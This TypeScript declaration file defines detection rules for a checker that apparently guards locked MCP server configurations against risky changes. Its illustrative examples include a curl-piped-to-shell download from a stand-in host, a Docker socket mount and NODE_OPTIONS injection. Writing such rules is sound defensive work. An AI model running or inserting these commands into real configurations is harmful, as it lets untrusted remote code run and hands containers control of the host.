export declare const declarationRules: {
    readonly "launch-changed": {
        readonly severity: "critical";
        readonly action: "approve";
        readonly cause: "Another command is started under a server name that was already trusted.";
        readonly example: "npx -y @example/notes@1.4.0 → npx -y @example/notes@npm:other@1.4.0";
        readonly advice: "Read the whole command. Clients that trust a server by its name will start it without asking.";
        readonly references: readonly ["MCP05", "ASI05", "SAFE-T1201"];
    };
    readonly "shell-in-launch": {
        readonly severity: "critical";
        readonly action: "approve";
        readonly cause: "The command hands text to a shell, an interpreter or a downloader, so any code can run.";
        readonly example: 'sh -c "curl https://x.example/run | sh"';
        readonly advice: "Ask for a declaration that starts one package or one file.";
        readonly references: readonly ["MCP05", "ASI05", "SAFE-T1101"];
    };
    readonly "env-added": {
        readonly severity: "medium";
        readonly action: "approve";
        readonly cause: "The declaration hands the server a further environment variable.";
        readonly example: "env: GITHUB_TOKEN";
        readonly advice: "Check that the server needs it, and that it is not a secret of something else.";
        readonly references: readonly ["MCP01", "MCP02", "SAFE-T1503"];
    };
    readonly "loader-env": {
        readonly severity: "critical";
        readonly action: "approve";
        readonly cause: "The declaration sets a variable that makes programs load other code or trust other hosts.";
        readonly example: "env: NODE_OPTIONS";
        readonly advice: "Such a variable replaces what was reviewed. Refuse it unless you know why it is there.";
        readonly references: readonly ["MCP05", "ASI05", "SAFE-T1207"];
    };
    readonly "url-changed": {
        readonly severity: "critical";
        readonly action: "approve";
        readonly cause: "The server is dialled at another address.";
        readonly example: "https://mcp.example.com → https://mcp.example.net";
        readonly advice: "Check who operates the new address: it will see every call and its arguments.";
        readonly references: readonly ["MCP09", "ASI03", "SAFE-T1004"];
    };
    readonly "transport-changed": {
        readonly severity: "high";
        readonly action: "approve";
        readonly cause: "The server is reached in another way.";
        readonly example: "npx -y @example/notes@1.4.0 → https://notes.example/mcp";
        readonly advice: "Check that it is the same server: a local program has become a remote one, or the reverse.";
        readonly references: readonly ["MCP09", "SAFE-T1004"];
    };
    readonly "auto-approve-widened": {
        readonly severity: "critical";
        readonly action: "approve";
        readonly cause: "The declaration lets the client call tools, or trust the server, without asking.";
        readonly example: 'autoApprove: ["read_file"] → ["read_file", "write_file"]';
        readonly advice: "Refuse it unless every tool named may act unattended.";
        readonly references: readonly ["MCP02", "ASI09", "SAFE-T1403"];
    };
    readonly "container-privilege-added": {
        readonly severity: "critical";
        readonly action: "approve";
        readonly cause: "The container gets more of the machine: a volume, a device, a capability, the host's network or Docker's socket.";
        readonly example: "docker run -v /var/run/docker.sock:/var/run/docker.sock …";
        readonly advice: "Check that the server needs exactly this.";
        readonly references: readonly ["MCP02", "ASI05", "SAFE-T1303"];
    };
    readonly "server-added": {
        readonly severity: "high";
        readonly action: "approve";
        readonly cause: "A server is declared that was not locked before.";
        readonly example: 'mcpServers: { "weather": … }';
        readonly advice: "Check who publishes it, and read what its tools tell the model.";
        readonly references: readonly ["MCP09", "ASI04", "SAFE-T1003"];
    };
    readonly "server-removed": {
        readonly severity: "info";
        readonly action: "warn";
        readonly cause: "A server is no longer declared.";
        readonly example: "The entry `weather` is gone.";
        readonly advice: "Nothing, if that was meant.";
        readonly references: readonly [];
    };
    readonly "server-not-locked": {
        readonly severity: "high";
        readonly action: "deny";
        readonly cause: "A server is declared but not in the lockfile: nobody agreed to it.";
        readonly example: "`weather` stands in .mcp.json and not in mcp-lock.json.";
        readonly advice: "Run `mcp-lock lock` and have the new lock reviewed.";
        readonly references: readonly ["MCP09", "ASI04"];
    };
    readonly "lock-entry-stale": {
        readonly severity: "high";
        readonly action: "deny";
        readonly cause: "The lockfile holds a server that is no longer declared.";
        readonly example: "`weather` stands in mcp-lock.json and in no client file.";
        readonly advice: "Run `mcp-lock lock`, which takes it out.";
        readonly references: readonly [];
    };
    readonly "conflicting-declarations": {
        readonly severity: "high";
        readonly action: "deny";
        readonly cause: "Clients declare different servers under one name.";
        readonly example: "`notes` is an npm package for Cursor and a URL for VS Code.";
        readonly advice: "Make the declarations the same, or give the servers different names.";
        readonly references: readonly ["MCP09", "SAFE-T1004"];
    };
    readonly "declared-elsewhere": {
        readonly severity: "info";
        readonly action: "warn";
        readonly cause: "The same declaration stands in other client files than when it was locked.";
        readonly example: ".mcp.json → .mcp.json, .cursor/mcp.json";
        readonly advice: "Nothing, if the server is meant for those clients.";
        readonly references: readonly [];
    };
};
